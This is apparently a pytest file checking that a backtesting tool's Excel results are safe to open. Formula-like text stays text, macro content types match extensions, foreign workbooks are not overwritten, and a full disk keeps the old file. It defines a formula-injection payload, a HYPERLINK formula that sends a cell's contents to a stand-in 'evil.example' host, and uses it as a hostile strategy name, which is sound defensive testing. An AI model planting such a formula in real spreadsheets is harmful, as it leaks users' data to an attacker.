"""Results workbooks are safe to open (issue 14, items 1-3): text from user input or data is
never a formula, an .xlsm input gives results whose content type fits their extension, and
an existing workbook posbt did not write is never overwritten without replace."""

from __future__ import annotations

import dataclasses
import hashlib
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from engine.data.duckdb_store import DuckDBStore
from engine.errors import DiskFullError, PosbtError
from engine.results.excel import check_out_path, is_results_workbook, write_results
from engine.results.result import BacktestResult
from engine.simulation.loop import run_backtest
from engine.strategy.plan import ExitRules
from engine.workbook.openpyxl_adapter import OpenpyxlWriter
from engine.workbook.protocol import SheetSpec
from engine.workbook.text import csv_field, formula_like, quote_prefixed
from tests.corpus.xlsm import MACRO_CT, PLAIN_CT, content_types, make_xlsm, vba_bytes
from tests.unit.simulation.builder import contracts, load_market
from tests.unit.simulation.test_golden import FLY_QUOTES, FLY_SPOT, STAMPS, W1, plan

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def result(mem_store: DuckDBStore) -> BacktestResult:
    load_market(mem_store, STAMPS, FLY_SPOT, FLY_QUOTES, [(W1, "WEEKLY")])
    return run_backtest(plan(ExitRules()), mem_store, contracts())


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist()
                if n.startswith("xl/worksheets/sheet")}


def test_formula_like_text_rules() -> None:
    for text in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1"):
        assert formula_like(text) and quote_prefixed(text) == "'" + text
        assert csv_field(text) == "'" + text
    for value in ("NIFTY", "a=b", 5, -5.0, None):
        assert not formula_like(value) and csv_field(value) == value


def test_strategy_names_and_reasons_are_text_never_formulas(
        tmp_path: Path, result: BacktestResult) -> None:
    evil = dataclasses.replace(result, plan=dataclasses.replace(result.plan, name=EVIL))
    out = write_results([evil], tmp_path / "r.xlsx")
    wb = load_workbook(out)
    head = [c for c in wb["BT_Summary"][1] if c.value == EVIL]
    assert head and all(c.data_type == "s" for c in head)
    texts = [c for ws in wb for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert len(texts) >= 2 and {c.data_type for c in texts} == {"s"}  # Summary and Trades
    assert {ws.title for ws in wb if any(c.value == EVIL for r in ws.iter_rows() for c in r)} \
        >= {"BT_Summary", "BT_Trades"}
    cells = [c for xml in _sheet_xml(out).values()
             for c in re.findall(r"<c [^>]*>.*?</c>", xml) if "HYPERLINK" in c]
    # the name alone, and in labels that start with it (chart data headers)
    named = [c for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and EVIL in c.value]
    assert len(cells) == len(named) and {c.data_type for c in named} == {"s"}
    # in the XML: inline text cells, no formula element
    assert all('t="inlineStr"' in c and "<f>" not in c for c in cells), cells


def test_the_config_sheet_writer_writes_text_as_text(tmp_path: Path) -> None:
    out = tmp_path / "cfg.xlsx"
    OpenpyxlWriter(out).write_sheets([SheetSpec(name="PositionalParameter",
                                                rows=[["StrategyName", EVIL], ["Lots", -2]])])
    ws = load_workbook(out)["PositionalParameter"]
    assert ws["B1"].value == EVIL and ws["B1"].data_type == "s"
    assert ws["B2"].value == -2 and ws["B2"].data_type == "n"  # numbers stay numbers
    assert all("<f>" not in xml for xml in _sheet_xml(out).values())


def _book(path: Path) -> Path:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "PositionalParameter"
    ws["A1"] = "Parameter"
    wb.save(path)
    return path


def test_an_xlsm_input_gives_an_xlsx_without_vba_or_an_xlsm_with_it(
        tmp_path: Path, result: BacktestResult) -> None:
    src = make_xlsm(_book(tmp_path / "plain.xlsx"), tmp_path / "book.xlsm")
    assert MACRO_CT in content_types(src) and vba_bytes(src)
    before = hashlib.sha256(src.read_bytes()).hexdigest()
    xlsx = write_results([result], tmp_path / "book_results.xlsx", source_workbook=src)
    assert MACRO_CT not in content_types(xlsx) and PLAIN_CT in content_types(xlsx)
    assert "vbaProject" not in content_types(xlsx) and vba_bytes(xlsx) is None
    xlsm = write_results([result], tmp_path / "book_results.xlsm", source_workbook=src)
    assert MACRO_CT in content_types(xlsm) and vba_bytes(xlsm) == vba_bytes(src)  # intact
    assert hashlib.sha256(src.read_bytes()).hexdigest() == before
    for out in (xlsx, xlsm):
        assert "BT_Summary" in load_workbook(out).sheetnames
    with pytest.raises(PosbtError, match=r"needs an \.xlsm input"):
        check_out_path(tmp_path / "r.xlsm", tmp_path / "cfg.yaml")


def test_a_foreign_workbook_is_not_overwritten_without_replace(
        tmp_path: Path, result: BacktestResult) -> None:
    mine = _book(tmp_path / "my_sheet.xlsx")
    digest = hashlib.sha256(mine.read_bytes()).hexdigest()
    with pytest.raises(PosbtError, match="not a posbt results workbook") as err:
        check_out_path(mine, None)
    assert err.value.place == "--out"
    assert hashlib.sha256(mine.read_bytes()).hexdigest() == digest
    check_out_path(mine, None, replace=True)  # the caller said replace
    out = write_results([result], tmp_path / "r.xlsx")
    assert is_results_workbook(out) and not is_results_workbook(mine)
    check_out_path(out, None)  # posbt's own results may be replaced by the next run
    notes = tmp_path / "notes.xlsx"
    notes.write_text("not a zip at all")
    with pytest.raises(PosbtError, match="not a posbt results workbook"):
        check_out_path(notes, None)
    with pytest.raises(PosbtError, match=r"must end in \.xlsx"):
        check_out_path(tmp_path / "r.csv", None)


def test_a_full_disk_during_a_results_write_keeps_the_old_file(
        tmp_path: Path, result: BacktestResult, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    out = write_results([result], tmp_path / "r.xlsx")
    before = out.read_bytes()

    def no_space(wb: Workbook, filename: str, streamed: object) -> None:
        Path(filename).write_bytes(b"PK\x03\x04 half")
        raise OSError(errno.ENOSPC, "No space left on device")

    # the results writer's save (openpyxl's package writer with streamed data rows)
    monkeypatch.setattr("engine.results.excel.save_workbook", no_space)
    with pytest.raises(DiskFullError, match="disk full while writing the results workbook"):
        write_results([result], out)
    assert out.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]  # no temporary file left


def test_the_ribbon_copies_result_sheets_and_new_names_as_text(
        tmp_path: Path, result: BacktestResult) -> None:
    import shutil

    from xlbridge.resultbooks import FileBook

    evil = dataclasses.replace(result, plan=dataclasses.replace(result.plan, name=EVIL))
    results = write_results([evil], tmp_path / "r.xlsx")
    book = tmp_path / "book.xlsx"
    shutil.copy(Path(__file__).resolve().parents[3] / "workbook_templates" /
                "posbt_template.xlsx", book)
    FileBook(book).replace_result_sheets(results)  # Run Backtest writing into the live book
    FileBook(book).add_strategy_column(EVIL)  # New Strategy with a hostile name
    wb = load_workbook(book)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert {c.parent.title for c in cells} >= {"BT_Summary", "BT_Trades", "PositionalParameter"}
    assert {c.data_type for c in cells} == {"s"}
